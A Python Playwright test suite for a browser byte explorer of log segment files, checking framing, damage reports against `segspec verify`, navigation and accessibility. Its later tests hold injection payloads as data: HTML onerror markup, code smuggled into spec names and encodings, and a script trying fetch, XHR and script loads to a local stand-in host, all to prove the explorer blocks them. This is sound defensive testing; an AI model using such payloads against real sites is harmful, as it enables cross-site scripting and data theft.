"""The byte explorer in a real browser, from a disk: what it shows of the samples, of a large file, of specs that are
dropped, and that it says of damage what `segspec verify` says."""

from __future__ import annotations

import json
import re
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, Literal

import pytest
from playwright.sync_api import Browser, Locator, Page, expect
from segspec_docs.explorer import Explorer

from tests import needs
from tests.conftest import ROOT
from tests.docs.browsing import browser
from tests.docs.conftest import scan

pytestmark = pytest.mark.xdist_group("docs")

SOUND = [
    "osiris/epochs/00000000000000000064.segment",
    "osiris/sub_batches/00000000000000000000.segment",
    "osiris/epochs/00000000000000000064.index",
    "tank/compacted/1-3147_1795189982.ilog",
    "tank/sparse/1000_1795189938.log",
    "tank/sparse/1000.index",
    "durable_log/multi_segment/segment_00000000000000000031.log",
    "durable_log/multi_segment/segment_00000000000000000031.idx",
    "mojo/mixed_fields/1526919030474-0",
    "ffwd/multi_segment/0000000000000021",
    "kafka/none-0/00000000000000000000.log",
    "kafka/snappy-0/00000000000000000000.log",
    "kafka/v1_none-0/00000000000000000000.log",
    "kafka/none-0/00000000000000000000.timeindex",
]
BROKEN = [
    "osiris/torn_tail/00000000000000000839.segment",
    "tank/disk_full/1_1795190426.log",
    "durable_log/torn_payload_reopened/segment_00000000000000000000.log",
    "mojo/torn_tail/w1526919030474-0",
    "ffwd/torn_blob/0000000000000000",
    "ffwd/overflow_quirk/0000000000000000",
]
LARGE = 100 << 20


def place(sample: str) -> Path:
    log, _, file = sample.rpartition("/")
    return next(folder for name, _, folder in Explorer(ROOT, {}).logs() if name == log) / file


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    needs.npm("kaitai-struct")
    with browser() as started:
        yield started


@pytest.fixture
def page(chromium: Browser, site: Path) -> Iterator[Page]:
    """A page whose errors, and whose requests of anything but files of the site, fail the test."""
    wrong: list[str] = []
    context = chromium.new_context(viewport={"width": 1600, "height": 1000})
    page = context.new_page()
    page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("request", lambda asked: None if ours(asked.url, site) else wrong.append(asked.url))
    yield page
    context.close()
    assert wrong == []


def ours(url: str, site: Path) -> bool:
    return url.startswith((site.as_uri(), "blob:"))


def opened(page: Page, site: Path, sample: str, at: int | None = None) -> None:
    """The explorer with a sample that it has read to its end."""
    place = "" if at is None else f"#@{at}"
    page.goto(f"{(site / 'explorer.html').as_uri()}?sample={sample}{place}")
    page.wait_for_function("explorer.isRead")


def frames(page: Page) -> list[list[int]]:
    both = "[explorer.frames.starts[at], explorer.frames.ends[at]]"
    found: list[list[int]] = page.evaluate(f"Array.from({{ length: explorer.frames.length }}, (_, at) => {both})")
    return found


def marked(page: Page) -> list[int]:
    found: list[int] = page.evaluate("explorer.hex.marked")
    return found


def selected(page: Page) -> Locator:
    return page.locator("#tree [aria-selected=true]")


def verified(path: Path, *options: str) -> list[dict[str, Any]]:
    """What `segspec verify` finds wrong in one file of a log."""
    command = [sys.executable, "-m", "segspec", "verify", str(path.parent), "-o", "json", *options]
    said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
    found = [json.loads(line) for line in said.splitlines()]
    return [one for one in found if one["path"] == str(path) and one["severity"] == "error"]


@pytest.mark.parametrize("sample", SOUND)
def test_the_parts_of_a_sound_file_are_all_of_its_bytes(page: Page, site: Path, sample: str) -> None:
    opened(page, site, sample)
    found = frames(page)
    assert [start for start, _ in found] == [0, *(end for _, end in found[:-1])]
    assert found[-1][1] == place(sample).stat().st_size
    expect(page.locator("#damage li")).to_have_count(0)
    expect(page.locator("#tree .bad")).to_have_count(0)


@pytest.mark.parametrize("sample", BROKEN)
def test_damage_is_where_verify_has_it_with_its_code_and_its_rule(page: Page, site: Path, sample: str) -> None:
    opened(page, site, sample)
    findings = verified(place(sample))
    shown = page.locator("#damage li").all()
    assert [(one.get_attribute("data-at"), one.get_attribute("data-code")) for one in shown] == [
        (found["position"], found["code"]) for found in findings
    ]
    for one, found in zip(shown, findings, strict=True):
        links = {link.inner_text(): link.get_attribute("href") or "" for link in one.locator("a").all()}
        assert set(links) == {found["code"], *([found["rule"]] if "rule" in found else [])}
        for target in links.values():
            address, anchor = target.split("#")
            assert anchor in scan(site / address).ids, target
    one = shown[0]
    one.get_by_role("button").click()
    expect(page.locator("#details .fault").first).to_be_visible()
    expect(page.locator("#bytes .bad").first).to_be_visible()
    expect(page.locator("#tree .bad").first).to_be_visible()


@pytest.mark.parametrize(
    ("format", "sample", "at"),
    [
        ("osiris", "osiris/epochs/00000000000000000064.segment", 5050),
        ("durable_log", "durable_log/multi_segment/segment_00000000000000000031.log", 2000),
        ("kafka", "kafka/none-0/00000000000000000000.log", 500),
        ("kafka", "kafka/v1_none-0/00000000000000000000.log", 500),
        ("kafka", "kafka/none-0/00000000000000000000.log", 1075),
    ],
)
def test_a_flipped_byte_is_where_verify_finds_it_and_reading_goes_on(
    page: Page, site: Path, tmp_path: Path, format: str, sample: str, at: int
) -> None:
    content = bytearray(place(sample).read_bytes())
    content[at] ^= 0x55
    path = tmp_path / "topic-0" / place(sample).name
    path.parent.mkdir()
    path.write_bytes(content)
    page.goto((site / "explorer.html").as_uri())
    dropped(page, (path.name, bytes(content)))
    page.wait_for_function("explorer.isRead")
    shown = page.locator("#damage li").all()
    findings = verified(path, "--format", format)
    assert findings
    assert [(one.get_attribute("data-at"), one.get_attribute("data-code")) for one in shown] == [
        (found["position"], found["code"]) for found in findings
    ]
    assert [one.locator("a.rule").inner_text() for one in shown] == [found["rule"] for found in findings]
    assert frames(page)[-1][1] == len(content)


def test_after_damage_reading_goes_on_with_the_record_that_verify_goes_on_with(page: Page, site: Path) -> None:
    opened(page, site, BROKEN[2])
    starts = [start for start, _ in frames(page)]
    assert starts[starts.index(2480) + 1] == 2544


def test_a_field_marks_its_bytes_and_a_byte_finds_its_field(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    page.locator("#tree .row", has_text="num_records").click()
    assert marked(page) == [12, 16]
    expect(page.locator("#bytes .hex .marked")).to_have_text(["00", "00", "00", "01"])
    expect(page.locator("#details h2")).to_have_text("header.num_records")
    page.locator("#byte-40").click()
    expect(selected(page)).to_contain_text("data_crc")
    assert marked(page) == [40, 44]
    assert page.url.endswith("#@40")


def test_bits_of_one_byte_are_fields_of_it(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    for name, value in (("magic", "5"), ("version", "0")):
        page.locator("#tree .row", has_text=name).click()
        assert marked(page) == [8, 9]
        expect(page.locator("#details .value")).to_have_text(value)


def test_a_link_leads_to_the_deepest_field_that_holds_its_byte(page: Page, site: Path) -> None:
    opened(page, site, "osiris/amqp/00000000000000002506.segment", at=330)
    expect(page.locator("#details .value")).to_have_text('"plain_amqp091"')


@pytest.mark.parametrize(
    ("sample", "at"), [("mojo/mixed_fields/1526919030474-0", 40), ("osiris/amqp/00000000000000002506.segment", 330)]
)
def test_the_link_of_a_field_leads_to_its_place_on_the_formats_page(
    page: Page, site: Path, sample: str, at: int
) -> None:
    opened(page, site, sample, at=at)
    address, anchor = (page.locator("#details a").first.get_attribute("href") or "").split("#")
    assert anchor in scan(site / address).ids


@pytest.mark.parametrize("colours", ["light", "dark"])
def test_a_file_that_is_shown_has_no_fault_that_axe_knows(
    page: Page, site: Path, colours: Literal["light", "dark"]
) -> None:
    needs.npm("axe-core")
    page.emulate_media(color_scheme=colours)
    opened(page, site, BROKEN[2], at=2490)
    page.evaluate((ROOT / "node_modules" / "axe-core" / "axe.min.js").read_text(encoding="utf-8"))
    found = page.evaluate("axe.run('#explorer', { preload: false })")["violations"]
    assert [(one["id"], one["nodes"][0]["target"]) for one in found if one["impact"] in ("serious", "critical")] == []


def test_keys_move_through_frames_and_fields(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0])
    tree = page.get_by_role("tree")
    tree.focus()
    page.keyboard.press("End")
    expect(selected(page)).to_contain_text("chunk 157")
    expect(selected(page)).to_have_attribute("aria-expanded", "false")
    page.keyboard.press("ArrowRight")
    expect(selected(page)).to_have_attribute("aria-expanded", "true")
    page.keyboard.press("ArrowRight")
    expect(selected(page)).to_contain_text("header")
    assert tree.get_attribute("aria-activedescendant") == selected(page).get_attribute("id")
    page.keyboard.press("ArrowLeft")
    expect(selected(page)).to_contain_text("chunk 157")
    page.keyboard.press("Enter")
    expect(selected(page)).to_have_attribute("aria-expanded", "false")
    page.keyboard.press("Home")
    expect(selected(page)).to_contain_text("header")
    page.keyboard.press("g")
    page.keyboard.type("0x28")
    page.keyboard.press("Enter")
    expect(selected(page)).to_contain_text("data_crc")
    page.get_by_role("grid").focus()
    page.keyboard.press("ArrowDown")
    assert page.url.endswith("#@56")


def test_what_was_compressed_is_opened_within_its_field(page: Page, site: Path) -> None:
    opened(page, site, "tank/sparse/1000_1795189938.log", at=4200)
    expect(page.locator("#tree .row", has_text="opened:")).to_have_count(1)
    page.keyboard.press("Tab")
    page.locator("#tree .row", has_text="message_set").locator(".twist").click()
    expect(page.locator("#tree .place", has_text="within").first).to_be_visible()


def test_a_file_of_100_mib_is_shown_while_it_is_read_and_never_drawn_as_a_whole(
    page: Page, site: Path, tmp_path: Path
) -> None:
    path = tmp_path / "segment_00000000000000000000.log"
    write_large(path)
    page.goto((site / "explorer.html").as_uri())
    page.set_input_files("#file", path)
    page.wait_for_function("explorer.frames.length > 0")
    answered_while_reading = page.evaluate("explorer.goTo(0).then(() => !explorer.isRead)")
    page.wait_for_function("explorer.isRead", timeout=120_000)
    assert answered_while_reading
    assert frames(page)[-1][1] == path.stat().st_size
    page.evaluate(f"explorer.goTo({path.stat().st_size - 1})")
    expect(page.locator("#details h2")).to_have_text("payload")
    expect(page.locator(f"#byte-{path.stat().st_size - 1}")).to_be_visible()
    assert page.locator("#explorer *").count() < 10_000


def write_large(path: Path) -> None:
    """A log of so many records of 1 KiB."""
    payload = bytes(range(256)) * 4
    with path.open("wb") as out:
        for offset in range(LARGE // 1024):
            header = struct.pack("<4sBBHQII", b"GOLD", 1, 0, 0, offset, len(payload), zlib.crc32(payload))
            out.write(header + payload)


SPEC = """
meta: {id: outer, endian: le, imports: [inner]}
seq:
  - {id: kind, type: b4, doc: What follows.}
  - {id: flags, type: b4}
  - {id: items, type: inner, repeat: expr, repeat-expr: 2}
"""
INNER = """
meta: {id: inner, endian: le}
seq:
  - {id: size, type: u2, valid: {max: 9}}
  - {id: text, type: str, encoding: ASCII, size: size}
"""


def dropped(page: Page, *files: tuple[str, bytes]) -> None:
    """Files that are dropped on the explorer at once."""
    given = page.evaluate_handle(
        """files => files.reduce((all, [name, hex]) => {
          const bytes = Uint8Array.from(hex.match(/../g) ?? [], (two) => parseInt(two, 16));
          return all.items.add(new File([bytes], name)), all;
        }, new DataTransfer())""",
        [[name, content.hex()] for name, content in files],
    )
    page.dispatch_event("#explorer", "drop", {"dataTransfer": given})


def test_a_spec_that_is_dropped_with_what_it_imports_reads_the_file_that_comes_with_it(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    content = b"\x51\x02\x00ab\x03\x00cde"
    dropped(page, ("outer.ksy", SPEC.encode()), ("inner.ksy", INNER.encode()), ("x.bin", content))
    page.wait_for_function("explorer.isRead", timeout=60_000)
    assert frames(page) == [[0, 1], [0, 1], [1, 5], [5, 10]]
    page.evaluate("explorer.goTo(8)")
    expect(page.locator("#details .value")).to_have_text('"cde"')
    expect(page.locator("#damage li")).to_have_count(0)


WITH_INSTANCES = """
meta: {id: pointing, endian: le}
seq:
  - {id: place, type: u1, doc: Where the text is.}
instances:
  text: {pos: place, type: str, encoding: ASCII, size: 3}
  twice: {value: place * 2}
types: {}
"""


def test_what_a_dropped_spec_has_beside_its_sequence_is_found_at_its_place(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("pointing.ksy", WITH_INSTANCES.encode()), ("x.bin", b"\x04\x00\x00\x00abc"))
    page.wait_for_function("explorer.isRead", timeout=60_000)
    assert frames(page) == [[0, 1], [4, 7]]
    page.evaluate("explorer.goTo(5)")
    expect(page.locator("#details h2")).to_have_text("text")
    expect(page.locator("#details .value")).to_have_text('"abc"')


def test_a_value_that_a_dropped_spec_refuses_is_damage_at_its_field(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("outer.ksy", SPEC.encode()), ("inner.ksy", INNER.encode()))
    expect(page.locator("#status")).to_have_text("outer.ksy, inner.ksy: drop a file that it describes.", timeout=60_000)
    dropped(page, ("x.bin", b"\x51\x02\x00ab\xff\x00cde"))
    expect(page.locator("#damage li")).to_contain_text("is 255, and at most 9 is due")
    assert marked(page) == [0, 1]


def test_a_dropped_spec_whose_import_is_missing_says_which(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("outer.ksy", SPEC.encode()))
    expect(page.locator("#status")).to_contain_text("drop inner.ksy with it", timeout=60_000)


def test_a_file_of_no_known_format_asks_for_one(page: Page, site: Path) -> None:
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("notes.txt", b"hello"))
    expect(page.locator("#status")).to_contain_text("choose one")
    page.select_option("#format", "durable_log")
    expect(page.locator("#damage li")).to_have_attribute("data-code", "bad-magic")


CODE = "*/ 0, globalThis.RAN='doc', /*"
LINES = "\\n*/\\nglobalThis.RAN = 'lines';\\n/*\\u2028*/ globalThis.RAN = 2; //"
DOCS_AS_CODE = f"""
meta:
  id: doc_is_code
  title: "{CODE}"
  application: "{CODE}"
  license: "{CODE}"
  endian: le
doc: "{CODE}"
doc-ref: ["{CODE}", "{LINES}"]
-orig-id: "{CODE}"
seq:
  - {{id: first, type: u1, doc: "{CODE}", doc-ref: "{CODE}", -orig-id: "{CODE}", enum: kind}}
  - {{id: doc, type: 'title(2)', doc: "{LINES}"}}
  - {{id: word, type: str, size: 2, encoding: ASCII, doc: "<img src=x onerror=globalThis.RAN=1> `<b>`"}}
instances:
  twice: {{value: first.to_i * 2, doc: "{CODE}", doc-ref: "{CODE}"}}
types:
  title:
    meta: {{title: "{CODE}"}}
    doc: "{CODE}"
    params:
      - {{id: given, type: u1, doc: "{CODE}", doc-ref: "{CODE}"}}
    seq:
      - {{id: last, type: u1, doc: "{CODE}"}}
enums:
  kind:
    1: {{id: one, doc: "{CODE}", doc-ref: "{LINES}", -orig-id: "{CODE}"}}
    2: two
"""


def ran_in(page: Page) -> list[object]:
    """What code of a stranger's left behind in the page and in its workers; None where nothing ran."""
    return [page.evaluate("globalThis.RAN ?? null"), *(w.evaluate("globalThis.RAN ?? null") for w in page.workers)]


def test_docs_that_try_to_be_code_are_shown_as_text_and_run_nowhere(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    content = b"\x01\x02<b"
    dropped(page, ("doc_is_code.ksy", DOCS_AS_CODE.encode()), ("x.bin", content))
    page.wait_for_function("explorer.isRead", timeout=60_000)
    expect(page.locator("#damage li")).to_have_count(0)
    assert len(page.workers) == 1
    for at, path, doc in (
        (0, "first", CODE),
        (1, "last", CODE),
        (2, "word", "<img src=x onerror=globalThis.RAN=1> <b>"),
    ):
        page.evaluate(f"explorer.goTo({at})")
        expect(page.locator("#details h2")).to_have_text(path)
        expect(page.locator("#details .doc")).to_have_text(doc)
    expect(page.locator("#details img")).to_have_count(0)
    assert ran_in(page) == [None, None]


@pytest.mark.parametrize(
    ("spec", "said"),
    [
        ('meta: {id: a}\nseq: [{id: "x=globalThis.RAN=1;x", type: u1}]', "no name"),
        ('meta: {id: "a*/globalThis.RAN=1/*"}\nseq: [{id: x, type: u1}]', "no name"),
        ('meta: {id: a}\nenums: {e: {1: "a:1};globalThis.RAN=1;({b"}}', "no name"),
        ('meta: {id: a}\nenums: {e: {"1:1};globalThis.RAN=1;({2": b}}', "no number"),
        ('meta: {id: a}\nenums: {"e = globalThis.RAN = 1": {1: b}}', "no name"),
        ('meta: {id: a}\ntypes: {"t(){}globalThis.RAN=1;//": {seq: [{id: x, type: u1}]}}', "no name"),
        ('meta: {id: a}\ninstances: {"x(){};globalThis.RAN=1;//": {value: 1}}', "no name"),
        ('meta: {id: a}\nparams: [{id: "x=globalThis.RAN=1", type: u1}]', "no name"),
        ('meta: {id: a}\nseq: [{id: x, type: str, size: 1, encoding: "A\\"+(globalThis.RAN=1)+\\""}]', "no encoding"),
        ('meta: {id: a, encoding: "A\\"+(globalThis.RAN=1)+\\""}\nseq: [{id: x, type: str, size: 1}]', "no encoding"),
        (
            'meta: {id: a}\ninstances: {x: {value: "[65].as<bytes>.to_s(\'A\\"+(globalThis.RAN=1)+\\"\')"}}',
            "name of an enc",
        ),
        ("meta: {id: a, imports: [\"b');globalThis.RAN=1;('\"]}\nseq: [{id: x, type: u1}]", "no import"),
        ("meta: {id: a}\nseq: [{id: x, size: 1, process: \"fetch('x')\"}]", "no process"),
    ],
)
def test_a_name_that_tries_to_be_code_is_refused(page: Page, site: Path, spec: str, said: str) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("a.ksy", spec.encode()))
    expect(page.locator("#status")).to_contain_text(said, timeout=60_000)
    assert ran_in(page) == [None]


SPEAKS = """
globalThis.RAN = [];
globalThis.TRIED = [];
const tried = (name, step) => {
  try { TRIED.push(Promise.resolve(step()).then(() => RAN.push(name), () => 0)); } catch { /* not allowed */ }
};
tried("fetch", () => fetch("http://HOST/?x", { mode: "no-cors" }));
tried("own", () => fetch(location.href));
tried("xhr", () => {
  const asked = new XMLHttpRequest();
  asked.open("GET", "http://HOST/", false);
  asked.send();
});
if (globalThis.importScripts) tried("import", () => importScripts("http://HOST/x.js"));
if (globalThis.document) {
  const there = (tag, more) => new Promise((go, fail) => {
    const element = Object.assign(document.createElement(tag), more, { onload: go, onerror: fail });
    document.body.append(element);
  });
  tried("img", () => there("img", { src: "http://HOST/x.png" }));
  tried("script", () => there("script", { src: "http://HOST/x.js" }));
  const inline = { text: "RAN.push('inline')" };
  document.body.append(Object.assign(document.createElement("script"), inline));
}
"""


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine that lets everybody ask, and what it was asked for."""
    asked: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/html")
            self.end_headers()

        def log_message(self, *words: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()
        thread.join()


def test_code_that_would_get_in_speaks_to_nobody(
    chromium: Browser, site: Path, stranger: tuple[str, list[str]]
) -> None:
    needs.npm("kaitai-struct-compiler")
    host, asked = stranger
    code = SPEAKS.replace("HOST", host)
    context = chromium.new_context()
    page = context.new_page()
    # Without the policy it would.
    page.goto(f"http://{host}/page")
    page.evaluate(f"{{ {code} }}")
    page.wait_for_function("RAN.includes('fetch') && RAN.includes('inline')")
    page.evaluate("Promise.allSettled(TRIED)")
    assert {"/x.js", "/x.png"} < set(asked)
    asked.clear()
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("pointing.ksy", WITH_INSTANCES.encode()))
    page.wait_for_function("explorer.own", timeout=60_000)
    # As if a text of the spec had come through to the parsers.
    page.evaluate("code => { for (const name in explorer.own.modules) explorer.own.modules[name] += code; }", code)
    dropped(page, ("x.bin", b"\x04\x00\x00\x00abc"))
    page.wait_for_function("explorer.isRead", timeout=60_000)
    (worker,) = page.workers
    page.evaluate(f"{{ {code} }}")
    for inside in (worker, page):
        inside.evaluate("Promise.allSettled(globalThis.TRIED)")
        assert inside.evaluate("globalThis.RAN") == []
    assert asked == []
    context.close()


MARKUP = b"<img src=x onerror=globalThis.RAN=1><script>globalThis.RAN=1</script>"


def test_markup_in_payloads_and_names_of_files_stays_text(page: Page, site: Path) -> None:
    page.goto((site / "explorer.html").as_uri())
    header = struct.pack("<4sBBHQII", b"GOLD", 1, 0, 0, 0, len(MARKUP), zlib.crc32(MARKUP))
    name = "<img src=x onerror=globalThis.RAN=1>\u202e'\"&.log"
    dropped(page, (name, header + MARKUP))
    page.select_option("#format", "durable_log")
    page.wait_for_function("explorer.isRead")
    expect(page.locator("#status")).to_contain_text(name)
    page.evaluate("explorer.goTo(30)")
    expect(page.locator("#details .value")).to_contain_text("<img src=x onerror=globalThis.RAN=1>")
    expect(page.locator("#explorer img, #explorer script")).to_have_count(0)
    assert ran_in(page) == [None, None]


def test_markup_in_kafka_keys_and_headers_stays_text(page: Page, site: Path) -> None:
    content = place("kafka/none-0/00000000000000000000.log").read_bytes()
    texts = set(re.findall(rb"[a-z]{6,}", content))
    assert texts
    for text in texts:
        content = content.replace(text, b"<b>" + text[3:])
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("00000000000000000000.log", content))
    page.select_option("#format", "kafka")
    page.wait_for_function("explorer.isRead")
    at = content.index(b"<b>")
    page.evaluate(f"explorer.goTo({at})")
    expect(page.locator("#details .value")).to_contain_text("<b>")
    expect(page.locator("#explorer b, #explorer img")).to_have_count(0)
    assert ran_in(page) == [None, None]
